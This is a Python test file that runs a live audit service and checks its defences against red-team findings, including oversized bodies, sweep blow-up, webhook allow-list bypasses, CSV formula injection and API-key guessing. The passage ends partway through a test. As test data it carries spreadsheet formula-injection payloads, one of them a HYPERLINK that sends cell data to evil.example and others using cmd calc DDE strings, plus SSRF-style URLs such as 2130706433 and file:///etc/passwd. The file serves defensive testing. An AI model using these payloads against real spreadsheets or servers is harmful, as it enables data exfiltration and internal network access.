"""Issue 20 (no caller can freeze, exhaust or starve the service), each finding against a real `iclaudit serve`
(uvicorn in its own process, SQLite, inline executor, auth on): the server's event loop, memory and egress
are what is measured, so the client must not share them.

H1: a body is not read before authentication, and a large non-finite body is parsed off the event loop in
one pass. H2: a sweep's size is computed before it is expanded. M1: the webhook allow-list holds as the
endpoint allow-list does. M5: CSV cells are escaped. L1: a cron that never fires is a 422. L3: an endpoint
cannot set Host. Each test prints what it measured."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import httpx
import numpy as np
import pytest

from testkit.client import bound_request, long_mia_request, wait_for
from testkit.held_endpoint import HeldEndpoint
from testkit.internal_server import internal_server
from testkit.served import make_key, serve, stop

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "examples"


@dataclass
class Live:
    url: str
    proc: subprocess.Popen
    state: Path
    hooks_port: int
    hits: list[str]
    gate: HeldEndpoint | None = None

    def key(self, tenant: str) -> str:
        return make_key(self.state, tenant)

    def client(self, tenant: str) -> httpx.Client:
        return httpx.Client(
            base_url=self.url, headers={"Authorization": f"Bearer {self.key(tenant)}"}, timeout=30
        )

    def rss_mb(self) -> float:
        for line in Path(f"/proc/{self.proc.pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
        raise AssertionError("no VmRSS")

    def log(self) -> str:
        return (self.state / "serve.log").read_text(errors="replace")


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory, data_dir: Path) -> Iterator[Live]:
    state = tmp_path_factory.mktemp("abuse")
    # ICLAUDIT_DATA_DIR: ag_news, sst2 whose test.jsonl is missing, no trec (L3: its path is never shown)
    data = state / "secret-data-dir"
    (data / "sst2").mkdir(parents=True)
    (data / "ag_news").symlink_to(data_dir / "ag_news")
    (data / "sst2" / "train.jsonl").symlink_to(data_dir / "sst2" / "train.jsonl")
    with internal_server() as (port, hits):
        proc, url, _ = serve(
            state,
            auth=True,
            extra_env={
                "ICLAUDIT_WEBHOOK_ALLOWLIST": json.dumps([f"http://127.0.0.1:{port}/hooks"]),
                "ICLAUDIT_ENDPOINT_ALLOWLIST": json.dumps([f"http://127.0.0.1:{port}/v1"]),
                "ICLAUDIT_WEBHOOK_TICK_SECONDS": "0.2",
                "ICLAUDIT_WEBHOOK_BACKOFF_SECONDS": "0.2",
                "ICLAUDIT_WEBHOOK_MAX_ATTEMPTS": "3",
                "ICLAUDIT_LOG_FORMAT": "text",
                "ICLAUDIT_DATA_DIR": str(data),
            },
        )
        try:
            yield Live(url, proc, state, port, hits)
        finally:
            stop(proc)


# --- H1: no body read before authentication; large bodies parsed off the loop, in one pass -----------------


def _status_after_partial_body(live: Live, authorization: str | None, declared: int) -> tuple[str, float]:
    """Send the headers of a `declared`-byte JSON POST and 64 KiB of its body, never the rest; return the
    answer's status line and how long it took. Only a server that answers without reading the body can
    answer at all."""
    host, port = live.url.removeprefix("http://").split(":")
    head = (
        f"POST /v1/audits HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {declared}\r\n"
        + (f"Authorization: {authorization}\r\n" if authorization else "")
        + "\r\n"
    ).encode()
    with socket.create_connection((host, int(port)), timeout=10) as sock:
        start = time.perf_counter()
        sock.sendall(head + b'{"kind": "bound", "scores_in": [' + b"1.5," * (16 * 1024))
        try:
            answer = sock.recv(4096)
        except TimeoutError:
            return "no answer within 10 s", time.perf_counter() - start
        return answer.split(b"\r\n", 1)[0].decode(), time.perf_counter() - start


@pytest.mark.parametrize(
    "authorization", [None, "Bearer ica_000000000000_wrong-secret"], ids=["no-key", "bad-key"]
)
def test_unauthenticated_multi_megabyte_body_is_401_before_it_is_read(live: Live, authorization) -> None:
    declared = 23 * 2**20  # the red team's 23 MB of `1.5,` (under ICLAUDIT_MAX_REQUEST_BYTES: no 413)
    status, seconds = _status_after_partial_body(live, authorization, declared)
    print(
        f"{declared:,}-byte body, 64 KiB sent, {authorization or 'no key'}: {status!r} after {seconds:.3f} s"
    )
    assert status == "HTTP/1.1 401 Unauthorized" and seconds < 2.0


def _probe_healthz(url: str, stop_at: threading.Event) -> list[float]:
    latencies = []
    with httpx.Client(base_url=url, timeout=30) as probe:
        while not stop_at.is_set():
            start = time.perf_counter()
            assert probe.get("/healthz").status_code == 200
            latencies.append(time.perf_counter() - start)
            time.sleep(0.02)
    return latencies


def _large_body(shape: str) -> tuple[bytes, str]:
    """(body, the first path named) of a large bound audit holding a NaN."""
    if shape == "nan":  # 20 MB of NaN: every value refused, the first 20 named
        n = 5 * 2**20
        return (
            b'{"kind": "bound", "scores_in": [' + b"NaN," * n + b'0.5], "scores_out": [0.1]}',
            "$.scores_in[0]",
        )
    # 16 MB (a legitimate bound audit's size) of numbers, then one NaN: parsed whole, then walked to it
    n = 4 * 2**20
    return (
        b'{"kind": "bound", "scores_in": [' + b"1.5," * n + b'NaN], "scores_out": [0.1]}',
        f"$.scores_in[{n}]",
    )


@pytest.mark.parametrize("shape", ["nan", "nan-last"])
def test_healthz_stays_responsive_while_a_large_nan_body_is_sent_and_refused(live: Live, shape: str) -> None:
    """A large body from a caller with a valid key (so it is read and parsed): /healthz answers within
    250 ms throughout, the NaN is 422 naming its path, and the server's memory grows by < 200 MB."""
    body, first_path = _large_body(shape)
    chunks = [body[i : i + 2**20] for i in range(0, len(body), 2**20)]
    with live.client(f"h1-{shape}") as api:
        assert (
            api.get("/v1/audits").status_code == 200
        )  # the key is verified (the body will not wait for scrypt)
        rss_before = live.rss_mb()
        done = threading.Event()
        probe: list[list[float]] = []
        prober = threading.Thread(target=lambda: probe.append(_probe_healthz(live.url, done)))
        prober.start()
        time.sleep(0.3)
        start = time.perf_counter()
        try:
            response = api.post(
                "/v1/audits", content=iter(chunks), headers={"Content-Type": "application/json"}
            )
        finally:
            elapsed = time.perf_counter() - start
            time.sleep(0.3)
            done.set()
            prober.join()
        rss_after = live.rss_mb()
    latencies = probe[0]
    print(
        f"{shape}: {len(body):,} bytes: {response.status_code} after {elapsed:.2f} s; /healthz "
        f"{len(latencies)} probes, max {max(latencies) * 1000:.0f} ms; server RSS {rss_before:.0f} → "
        f"{rss_after:.0f} MB"
    )
    assert response.status_code == 422, response.text[:300]
    details = response.json()["error"]["details"]
    assert details[0]["path"] == first_path and len(details) == (20 if shape == "nan" else 1)
    assert max(latencies) < 0.25
    assert rss_after - rss_before < 200


def test_a_body_where_none_is_read_is_413_at_once(live: Live) -> None:
    """GET /healthz with a 5 MB NaN body answered 422 after 13 s; a route that reads no body now has the
    small limit (ICLAUDIT_MAX_SMALL_REQUEST_BYTES) and a sweep's body too."""
    big = b"[" + b"NaN," * (5 * 2**18) + b"0]"
    for method, path in (("GET", "/healthz"), ("POST", "/v1/sweeps"), ("POST", "/v1/schedules")):
        start = time.perf_counter()
        response = httpx.request(
            method, f"{live.url}{path}", content=big, headers={"Content-Type": "application/json"}
        )
        seconds = time.perf_counter() - start
        print(f"{method} {path} with {len(big):,} bytes: {response.status_code} after {seconds:.3f} s")
        assert response.status_code == 413 and seconds < 2.0
        assert "ICLAUDIT_MAX_SMALL_REQUEST_BYTES" in response.json()["error"]["message"]


# --- H2: a sweep is sized arithmetically before anything is expanded -----------------------------------


def _huge_sweep() -> dict:
    grid = {f"labels.k{i}": list(range(64)) for i in range(8)}  # 64**8 = 2.8e14 points
    return {"base": bound_request(), "grid": grid}


@pytest.mark.parametrize("route", ["/v1/sweeps", "/v1/schedules"])
def test_a_grid_of_8_keys_by_64_values_is_refused_in_milliseconds(live: Live, route: str) -> None:
    body = _huge_sweep() if route == "/v1/sweeps" else {"sweep": _huge_sweep(), "cron": "0 3 * * *"}
    raw = json.dumps(body).encode()
    with live.client("h2") as api:
        rss_before = live.rss_mb()
        start = time.perf_counter()
        response = api.post(route, content=raw, headers={"Content-Type": "application/json"}, timeout=10)
        seconds = time.perf_counter() - start
        rss_after = live.rss_mb()
        print(
            f"{route}: {len(raw):,}-byte body, 8 keys × 64 values: {response.status_code} after "
            f"{seconds * 1000:.0f} ms; RSS {rss_before:.0f} → {rss_after:.0f} MB; {response.json()['error']['message']}"
        )
        assert response.status_code == 422 and seconds < 1.0 and rss_after - rss_before < 20
        detail = response.json()["error"]["details"][0]
        assert detail["path"] == "$.grid" and "281474976710656 audits" in detail["message"]
        assert "ICLAUDIT_SWEEP_MAX_AUDITS" in detail["message"]
        assert api.get("/v1/sweeps").json()["sweeps"] == []
        assert api.get("/v1/schedules").json()["schedules"] == []


# --- L1: a cron with no next date --------------------------------------------------------------------------


def test_a_cron_that_never_fires_is_422_naming_the_field(live: Live) -> None:
    with live.client("l1") as api:
        response = api.post("/v1/schedules", json={"request": bound_request(), "cron": "0 0 31 2 *"})
        assert response.status_code == 422, response.text
        detail = response.json()["error"]["details"][0]
        assert detail["path"] == "$.cron" and "never fires" in detail["message"]
        assert api.get("/v1/schedules").json()["schedules"] == []


# --- M1 (and L2, L3): one egress policy for endpoints and webhooks ----------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "http://127.0.0.1:{port}/admin",
        "http://127.0.0.1:{port}/hooksX",
        "http://127.0.0.1:{port}/hooks/../admin",
        "http://127.1:{port}/hooks",
        "http://2130706433:{port}/hooks",
        "http://xn--localhost-:{port}/hooks",
    ],
)
def test_webhook_outside_the_allow_listed_path_or_host_is_422(live: Live, target: str) -> None:
    """The allow-list entry is http://127.0.0.1:PORT/hooks: all of these were registered and delivered."""
    url = target.format(port=live.hooks_port)
    with live.client("m1") as api:
        response = api.post("/v1/webhooks", json={"url": url})
        print(
            f"{url}: {response.status_code} {response.json()['error']['message'] if response.is_error else ''}"
        )
        assert response.status_code == 422 and response.json()["error"]["details"][0]["path"] == "$.url"


def test_notify_outside_the_allow_list_is_422_for_audits_sweeps_and_schedules(live: Live) -> None:
    port = live.hooks_port
    with live.client("m1-notify") as api:
        audit = api.post(
            "/v1/audits",
            json=bound_request(notify=f"http://127.0.0.1:{port}/internal/admin/reset?confirm=yes"),
        )
        assert audit.status_code == 422 and audit.json()["error"]["details"][0]["path"] == "$.notify"
        for notify in ("file:///etc/passwd", f"http://127.0.0.1:{port}/admin"):
            sweep = {"base": bound_request(), "grid": {"confidence": [0.9, 0.95]}, "notify": notify}
            response = api.post("/v1/sweeps", json=sweep)
            print(f"sweep notify {notify}: {response.status_code} {response.json()['error']['message']}")
            assert (
                response.status_code == 422 and response.json()["error"]["details"][0]["path"] == "$.notify"
            )
            response = api.post("/v1/schedules", json={"sweep": sweep, "cron": "0 3 * * *"})
            assert (
                response.status_code == 422 and response.json()["error"]["details"][0]["path"] == "$.notify"
            )
        assert api.get("/v1/sweeps").json()["sweeps"] == []
        listed = api.post(
            "/v1/sweeps",
            json={
                "base": bound_request(),
                "grid": {"confidence": [0.9]},
                "notify": f"http://127.0.0.1:{port}/hooks/s",
            },
        )
        assert listed.status_code == 202, listed.text


def _deliveries(api: httpx.Client, webhook_id: str, timeout: float = 30.0) -> list[dict]:
    deadline = time.monotonic() + timeout
    while True:
        rows = api.get(f"/v1/webhooks/{webhook_id}/deliveries").json()["deliveries"]
        if rows and all(r["state"] != "PENDING" for r in rows):
            return rows
        assert time.monotonic() < deadline, rows
        time.sleep(0.1)


def test_a_name_resolving_to_an_allow_listed_address_does_not_open_other_paths(live: Live) -> None:
    """`localhost` resolves to 127.0.0.1, which the entry names, but only for /hooks on 127.0.0.1 itself: a
    delivery to http://localhost:PORT/admin is refused at connect time and never arrives; /hooks arrives."""
    port = live.hooks_port
    with live.client("m1-dns") as api:
        bad = api.post("/v1/webhooks", json={"url": f"http://localhost:{port}/admin"}).json()
        good = api.post("/v1/webhooks", json={"url": f"http://127.0.0.1:{port}/hooks/in"}).json()
        audit = api.post("/v1/audits", json=bound_request()).json()
        wait_for(api.get, audit["id"])
        refused, delivered = _deliveries(api, bad["id"]), _deliveries(api, good["id"])
    print(
        f"localhost/admin: {refused[0]['state']} ({refused[0]['last_error']}); /hooks/in: {delivered[0]['state']}"
    )
    assert all(
        r["state"] == "FAILED" and r["attempts"] == 1 and "refused" in r["last_error"] for r in refused
    )
    assert "127.0.0.1" not in refused[0]["last_error"]  # a class (loopback), not the resolved address
    assert all(r["state"] == "SUCCEEDED" for r in delivered)
    assert "/admin" not in live.hits and "/hooks/in" in live.hits


def test_an_unparseable_stored_host_fails_once_without_a_traceback(live: Live) -> None:
    """A webhook row registered before this check (inserted directly): its delivery is FAILED after one
    attempt, not retried past the limit with a traceback each time."""
    from app.db import keys
    from app.db import webhooks as webhook_rows
    from app.db.engine import make_engine, make_session_factory
    from app.integrations.webhooks import new_secret

    port = live.hooks_port
    with live.client("l2") as api:
        engine = make_engine(f"sqlite:///{live.state / 'iclaudit.db'}")
        with make_session_factory(engine).begin() as session:
            tenant = keys.get_or_create_tenant(session, "l2")
            row = webhook_rows.add_endpoint(
                session,
                tenant_id=tenant.id,
                url=f"http://xn--localhost-:{port}/hooks",
                secret=new_secret(),
                events=[],
                description="",
            )
            webhook_id = row.id
        engine.dispose()
        audit = api.post("/v1/audits", json=bound_request()).json()
        wait_for(api.get, audit["id"])
        rows = _deliveries(api, webhook_id)
    print(
        f"xn--localhost-: {rows[0]['state']} after {rows[0]['attempts']} attempt(s): {rows[0]['last_error']}"
    )
    assert all(r["state"] == "FAILED" and r["attempts"] == 1 for r in rows)
    assert "not a valid host name" in rows[0]["last_error"]
    assert "IDNAError" not in live.log() and "Traceback" not in live.log()


def test_a_delivery_error_shows_a_class_not_dns_details(live: Live) -> None:
    with live.client("l3-dns") as api:
        hook = api.post("/v1/webhooks", json={"url": "http://no-such-host.invalid/hook"}).json()
        audit = api.post("/v1/audits", json=bound_request()).json()
        wait_for(api.get, audit["id"])
        rows = _deliveries(api, hook["id"])
    print(
        f"no-such-host.invalid: {rows[0]['state']} after {rows[0]['attempts']} attempts: {rows[0]['last_error']}"
    )
    assert rows[0]["state"] == "FAILED" and rows[0]["attempts"] == 3  # ICLAUDIT_WEBHOOK_MAX_ATTEMPTS
    assert "ConnectError (the receiver could not be reached)" in rows[0]["last_error"]
    assert "resolve" not in rows[0]["last_error"] and "Errno" not in rows[0]["last_error"]


def test_query_strings_are_not_logged(live: Live) -> None:
    """L3: the access log, httpx's request lines (webhook and notify deliveries) and the delivery log keep
    `?[redacted]` in place of a query string (a receiver's token travels there)."""
    port = live.hooks_port
    with live.client("l3-log") as api:
        assert api.get("/v1/audits", params={"label": "team=QUERY-SECRET-1"}).status_code == 200
        hook = api.post("/v1/webhooks", json={"url": f"http://127.0.0.1:{port}/hooks/q?token=QUERY-SECRET-2"})
        assert hook.status_code == 201, hook.text
        notify = f"http://127.0.0.1:{port}/hooks/n?token=QUERY-SECRET-3"
        audit = api.post("/v1/audits", json=bound_request(notify=notify)).json()
        wait_for(api.get, audit["id"])
        rows = _deliveries(api, hook.json()["id"])
    assert rows and all(r["state"] == "SUCCEEDED" for r in rows)
    deadline = time.monotonic() + 10
    while "/hooks/n?[redacted]" not in live.log() and time.monotonic() < deadline:
        time.sleep(0.1)
    log = live.log()
    lines = [line for line in log.splitlines() if "[redacted]" in line]
    print("\n".join(lines[-4:]))
    assert "QUERY-SECRET" not in log
    assert (
        "GET /v1/audits?[redacted]" in log and "/hooks/q?[redacted]" in log and "/hooks/n?[redacted]" in log
    )


def test_the_data_directorys_path_is_never_shown(live: Live) -> None:
    """L3: a built-in dataset missing from ICLAUDIT_DATA_DIR, or one that cannot be read, is explained with
    the setting's name and the file's name in it, never the directory's path."""
    with live.client("l3-data") as api:
        listed = {d["name"]: d for d in api.get("/v1/datasets").json()["builtins"]}
        refused = api.post("/v1/audits", json={**long_mia_request(trials=100), "dataset": "trec"})
        failed = api.post("/v1/audits", json={**long_mia_request(trials=100), "dataset": "sst2"}).json()
        failed = wait_for(api.get, failed["id"], ("FAILED",))
    shown = [str(listed["trec"]), refused.text, str(failed["error"])]
    print("\n".join(shown))
    assert listed["ag_news"]["available"] and not listed["trec"]["available"]
    assert refused.status_code == 422
    assert all("ICLAUDIT_DATA_DIR" in text and "secret-data-dir" not in text for text in shown)
    assert "sst2/test.jsonl" in str(failed["error"])


def test_an_endpoint_cannot_set_host(live: Live) -> None:
    body = json.loads((EXAMPLES / "mia-http-endpoint.json").read_text())
    body["mechanism"]["endpoint"].update(
        url=f"http://127.0.0.1:{live.hooks_port}/v1", headers={"Host": "admin.internal"}
    )
    with live.client("l3") as api:
        response = api.post("/v1/audits", json=body)
    assert response.status_code == 422, response.text
    assert response.json()["error"]["details"][0]["path"] == "$.mechanism.endpoint.headers.Host"


# --- M5: CSV formula injection ------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tx",
]
# A leading carriage return is escaped too (app/csv_cells.py, the dashboard); Python's csv writer with "\n"
# line ends does not quote a CR, so the service's CSVs are checked without one (a CR inside a cell is a
# framing problem of those writers, apart from formula injection).
CR = "\rx"


def test_csv_cell_rule() -> None:
    from app.csv_cells import safe_cell

    for text in [*FORMULAS, CR, "-", "+", "=", "@"]:
        assert safe_cell(text) == "'" + text
    for kept in (-0.5, -3, True, None, "-0.5", "+3", "-1e-05", ".5", "plain", "a=b", ""):
        assert safe_cell(kept) == kept


def test_records_csv_escapes_formula_cells_and_keeps_negative_numbers(live: Live) -> None:
    """A finished audit's per-record table whose record text is a tenant's data (inserted directly: the
    science's own records are covered by its tests)."""
    from app.db import audits as audit_rows
    from app.db import keys
    from app.db.engine import make_engine, make_session_factory
    from app.db.models import AuditState

    with live.client("m5") as api:
        engine = make_engine(f"sqlite:///{live.state / 'iclaudit.db'}")
        with make_session_factory(engine).begin() as session:
            tenant = keys.get_or_create_tenant(session, "m5")
            audit = audit_rows.add_audit(session, tenant_id=tenant.id, kind="mia", request={"kind": "mia"})
            audit.state = AuditState.SUCCEEDED
            audit.result = {
                "records": [
                    {"rank": i + 1, "record_id": f"r{i}", "gap_mean": -0.5, "auc": 0.5, "text": text}
                    for i, text in enumerate([*FORMULAS, "-0.5", "plain"])
                ]
            }
            audit_id = audit.id
        engine.dispose()
        response = api.get(f"/v1/audits/{audit_id}/records", params={"format": "csv"})
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    print([r["text"] for r in rows], [r["gap_mean"] for r in rows][:2])
    assert [r["text"] for r in rows] == [*("'" + f for f in FORMULAS), "-0.5", "plain"]
    assert all(r["gap_mean"] == "-0.5" for r in rows)  # a negative number stays a number


def test_sweep_result_csv_escapes_formula_cells(live: Live) -> None:
    values = [*FORMULAS[:4], "-1"]
    with live.client("m5-sweep") as api:
        sweep = api.post("/v1/sweeps", json={"base": bound_request(), "grid": {"labels.x": values}})
        assert sweep.status_code == 202, sweep.text
        sweep_id = sweep.json()["id"]
        deadline = time.monotonic() + 60
        while api.get(f"/v1/sweeps/{sweep_id}").json()["state"] not in ("SUCCEEDED", "FAILED", "CANCELLED"):
            assert time.monotonic() < deadline
            time.sleep(0.1)
        text = api.get(f"/v1/sweeps/{sweep_id}/result.csv").text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    print([r["labels.x"] for r in rows])
    assert [r["labels.x"] for r in rows] == [*("'" + v for v in FORMULAS[:4]), "-1"]
    assert all(float(r["epsilon_lower"]) >= 0 for r in rows)


def test_dashboard_download_csv_escapes_formula_cells() -> None:
    """app/ui/static/js/api.js `toCsv`, run by node as the browser would."""
    script = (
        f"import {{ toCsv }} from {json.dumps((ROOT / 'app/ui/static/js/api.js').as_uri())};\n"
        f"const rows = {json.dumps([[f'f{i}', v] for i, v in enumerate([*FORMULAS, CR])])};\n"
        "rows.push(['neg', -0.5], ['negtext', '-0.5'], ['=key', 1]);\n"
        "process.stdout.write(toCsv(rows));\n"
    )
    out = subprocess.run(
        ["node", "--input-type=module", "-e", script], capture_output=True, check=True
    ).stdout.decode()  # bytes: text mode would turn the CR into a newline
    rows = list(csv.reader(io.StringIO(out, newline="")))
    print(rows)
    assert [r[1] for r in rows[1 : len(FORMULAS) + 2]] == ["'" + f for f in [*FORMULAS, CR]]
    assert rows[-3:] == [["neg", "-0.5"], ["negtext", "-0.5"], ["'=key", "1"]]


# --- M2: sweep children and scheduled runs count in the active-audit cap, enforced atomically -------------

CAP = 6  # ICLAUDIT_MAX_ACTIVE_AUDITS of the `tight` server
MAX_SCHEDULES = 3  # its ICLAUDIT_MAX_SCHEDULES
LIST_MAX_BYTES = 2 * 2**20  # its ICLAUDIT_LIST_MAX_BYTES


@pytest.fixture(scope="module")
def tight(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    """A second server with small caps and one inline worker, which `held` can hold at a gate."""
    state = tmp_path_factory.mktemp("tight")
    with internal_server() as (port, hits), HeldEndpoint() as gate:
        proc, url, _ = serve(
            state,
            auth=True,
            extra_env={
                "ICLAUDIT_INLINE_WORKERS": "1",
                "ICLAUDIT_ENDPOINT_ALLOWLIST": json.dumps([gate.url]),
                "ICLAUDIT_MAX_ACTIVE_AUDITS": str(CAP),
                "ICLAUDIT_MAX_TRIALS": "8000000",
                "ICLAUDIT_WEBHOOK_TICK_SECONDS": "0.2",
                "ICLAUDIT_SCHEDULE_MIN_INTERVAL_SECONDS": "1",
                "ICLAUDIT_MAX_SCHEDULES": str(MAX_SCHEDULES),
                "ICLAUDIT_LIST_MAX_BYTES": str(LIST_MAX_BYTES),
                "ICLAUDIT_KEY_RECHECK_SECONDS": "1",
                "ICLAUDIT_MAX_OPEN_STREAMS": str(MAX_STREAMS),
                "ICLAUDIT_AUTH_FAILURE_LIMIT": "1000/minute",  # the timing test fails on purpose
                "ICLAUDIT_AUTH_FAILURE_ADDRESS_LIMIT": "1000/minute",
                "ICLAUDIT_LOG_FORMAT": "text",
            },
        )
        try:
            yield Live(url, proc, state, port, hits, gate)
        finally:
            stop(proc)


@pytest.fixture
def held(tight: Live) -> Iterator[Live]:
    """The `tight` server with its one inline worker held at the gate by another tenant's audit, so every
    audit submitted meanwhile stays PENDING (and counts in its tenant's cap) until the test ends."""
    assert tight.gate is not None
    tight.gate.rearm()
    with tight.client("blocker") as api:
        blocker = api.post("/v1/audits", json=tight.gate.request()).json()
        tight.gate.wait_held()
        try:
            yield tight
        finally:
            api.post(f"/v1/audits/{blocker['id']}/cancel")
            tight.gate.release()
            wait_for(api.get, blocker["id"], timeout=120)


def _active(api: httpx.Client) -> int:
    audits = api.get("/v1/audits", params={"page_size": 500}).json()["audits"]
    return sum(1 for a in audits if a["state"] in ("PENDING", "RUNNING"))


def _cancel_all(api: httpx.Client) -> None:
    for audit in api.get("/v1/audits", params={"page_size": 500}).json()["audits"]:
        if audit["state"] in ("PENDING", "RUNNING"):
            api.post(f"/v1/audits/{audit['id']}/cancel")


def _sweep(n: int) -> dict:
    return {"base": bound_request(), "grid": {"confidence": [0.9, 0.95, 0.99, 0.999, 0.9999, 0.5][:n]}}


def _assert_quota_429(response: httpx.Response) -> None:
    assert response.status_code == 429, response.text
    assert int(response.headers["Retry-After"]) >= 1
    assert "ICLAUDIT_MAX_ACTIVE_AUDITS" in response.json()["error"]["message"]


def test_a_sweep_whose_children_pass_the_active_cap_is_429(held: Live) -> None:
    """A 64- and a 256-child sweep were both accepted against a cap of 100: the children now count."""
    with held.client("m2-sweep") as api:
        try:
            assert api.post("/v1/sweeps", json=_sweep(4)).status_code == 202
            over = api.post("/v1/sweeps", json=_sweep(3))  # 4 + 3 > 6
            print(f"4 active, a 3-child sweep against a cap of {CAP}: {over.status_code} {over.text[:300]}")
            _assert_quota_429(over)
            assert "this sweep would add 3" in over.json()["error"]["message"]
            assert len(api.get("/v1/sweeps").json()["sweeps"]) == 1 and _active(api) == 4
            assert api.post("/v1/sweeps", json=_sweep(2)).status_code == 202  # 4 + 2 = 6: fits exactly
            _assert_quota_429(api.post("/v1/audits", json=bound_request()))
            assert _active(api) == CAP
        finally:
            _cancel_all(api)


def test_concurrent_submits_never_pass_the_cap(held: Live) -> None:
    """24 submits at once (no count-then-insert race): exactly CAP are accepted, the rest 429."""
    key = held.key("m2-race")
    start = threading.Barrier(24)

    def submit(i: int) -> int:
        with httpx.Client(base_url=held.url, headers={"Authorization": f"Bearer {key}"}, timeout=60) as api:
            start.wait()
            if i % 3 == 0:
                return api.post("/v1/sweeps", json=_sweep(1)).status_code
            return api.post("/v1/audits", json=bound_request()).status_code

    with ThreadPoolExecutor(24) as pool:
        codes = list(pool.map(submit, range(24)))
    with held.client("m2-race") as api:
        try:
            active = _active(api)
            print(
                f"24 concurrent submits, cap {CAP}: {codes.count(202)} accepted, {codes.count(429)} 429; "
                f"{active} active"
            )
            assert sorted(set(codes)) == [202, 429] and codes.count(202) == CAP and active == CAP
        finally:
            _cancel_all(api)


def test_scheduled_sweeps_and_audits_count_in_the_cap(held: Live) -> None:
    """With 5 of 6 active, a schedule firing a 2-child sweep every second and one firing an audit: the
    sweep never fits (each of its runs is listed without a sweep), the audit fits once, and the tenant's
    active audits never pass the cap (a scheduled sweep's children were checked one by one, 5 + 1 ≤ 6)."""
    with held.client("m2-sched") as api:
        try:
            for _ in range(CAP - 1):
                assert api.post("/v1/audits", json=bound_request()).status_code == 202
            sweep = api.post("/v1/schedules", json={"sweep": _sweep(2), "interval_seconds": 1}).json()
            audit = api.post("/v1/schedules", json={"request": bound_request(), "interval_seconds": 1}).json()
            deadline = time.monotonic() + 6
            peak = 0
            while time.monotonic() < deadline:
                peak = max(peak, _active(api))
                time.sleep(0.2)
            runs = {s["id"]: api.get(f"/v1/schedules/{s['id']}/runs").json()["runs"] for s in (sweep, audit)}
            for s in (sweep, audit):
                api.delete(f"/v1/schedules/{s['id']}")
        finally:
            _cancel_all(api)
    sweeps_started = sum(1 for r in runs[sweep["id"]] if r["sweep_id"])
    audits_started = sum(1 for r in runs[audit["id"]] if r["audit_id"])
    print(
        f"5 active, 6 s of firings: {sweeps_started} of {len(runs[sweep['id']])} sweep runs and "
        f"{audits_started} of {len(runs[audit['id']])} audit runs started; peak active {peak} (cap {CAP})"
    )
    assert peak == CAP and sweeps_started == 0 and audits_started == 1
    assert len(runs[sweep["id"]]) >= 3 and len(runs[audit["id"]]) >= 3
    assert "Traceback" not in held.log()


# --- L4: authentication and operations ---------------------------------------------------------------------


def test_metrics_is_closed_with_auth_on_and_no_token(live: Live) -> None:
    response = httpx.get(f"{live.url}/metrics")
    print(f"GET /metrics, auth on, no ICLAUDIT_METRICS_TOKEN: {response.status_code}")
    assert response.status_code == 403 and "ICLAUDIT_METRICS_TOKEN" in response.json()["error"]["message"]
    assert "iclaudit_audits" not in response.text


def _from(address: str, url: str, key: str) -> httpx.Client:
    """A client whose connections leave from `address` (any 127/8 address is the loopback on Linux)."""
    return httpx.Client(
        base_url=url,
        headers={"Authorization": f"Bearer {key}"},
        transport=httpx.HTTPTransport(local_address=address),
        timeout=30,
    )


def test_guessing_a_key_ids_secret_cannot_lock_its_owner_out(live: Live) -> None:
    """The red team's case: a key not yet used since the server started, 12 wrong secrets for its id from
    another address. The guesser is throttled (429); the owner's right key from its own address is 200."""
    victim = live.key("l4-victim")
    key_id = victim.split("_")[1]
    with _from("127.0.0.2", live.url, f"ica_{key_id}_wrong-secret") as guesser:
        codes = [guesser.get("/v1/audits").status_code for _ in range(12)]
        guesser.headers["Authorization"] = f"Bearer {victim}"
        from_guesser = guesser.get("/v1/audits")
    with _from("127.0.0.1", live.url, victim) as owner:
        answer = owner.get("/v1/audits")
    print(
        f"12 wrong secrets from 127.0.0.2: {codes}; the right key from there: {from_guesser.status_code}, "
        f"from 127.0.0.1: {answer.status_code}"
    )
    assert codes == [401] * 10 + [429] * 2
    assert from_guesser.status_code == 429 and "ICLAUDIT_AUTH_FAILURE_LIMIT" in from_guesser.text
    assert answer.status_code == 200, answer.text


def test_an_unknown_key_id_costs_as_long_as_a_known_one(tight: Live) -> None:
    """A key-id timing oracle (about 100 against 260 ms): the wrong secret of a known key id ran scrypt, an
    unknown id answered at once. Now both run it (median of 15 interleaved requests each)."""
    known_id = tight.key("l4-timing").split("_")[1]
    timings: dict[str, list[float]] = {"unknown": [], "known": []}
    with httpx.Client(base_url=tight.url, timeout=30) as api:
        for i in range(15):
            for which, key_id in (("unknown", f"{i:012x}"), ("known", known_id)):
                start = time.perf_counter()
                response = api.get("/v1/audits", headers={"Authorization": f"Bearer ica_{key_id}_wrong"})
                timings[which].append(time.perf_counter() - start)
                assert response.status_code == 401
    unknown, known = (sorted(t)[len(t) // 2] * 1000 for t in (timings["unknown"], timings["known"]))
    print(f"median 401: unknown key id {unknown:.1f} ms, known key id with a wrong secret {known:.1f} ms")
    assert unknown > 0.75 * known and known > 5  # scrypt (n=2^14) takes tens of ms either way


def _revoke(live: Live, key: str) -> None:
    """What `iclaudit keys revoke` does: in the database, from another process."""
    from app.db import keys
    from app.db.engine import make_engine, make_session_factory

    engine = make_engine(f"sqlite:///{live.state / 'iclaudit.db'}")
    try:
        with make_session_factory(engine).begin() as session:
            assert keys.revoke_api_key(session, key.split("_")[1])
    finally:
        engine.dispose()


def test_a_revoked_keys_event_stream_ends(held: Live) -> None:
    """An SSE stream of an audit that stays PENDING (the worker is held), its key revoked one second in:
    the stream ends within ICLAUDIT_KEY_RECHECK_SECONDS (1 s here) instead of streaming on."""
    key = held.key("l4-sse")
    with _from("127.0.0.1", held.url, key) as api:
        audit = api.post("/v1/audits", json=bound_request()).json()
        ended = threading.Event()
        lines: list[str] = []

        def read() -> None:
            with (
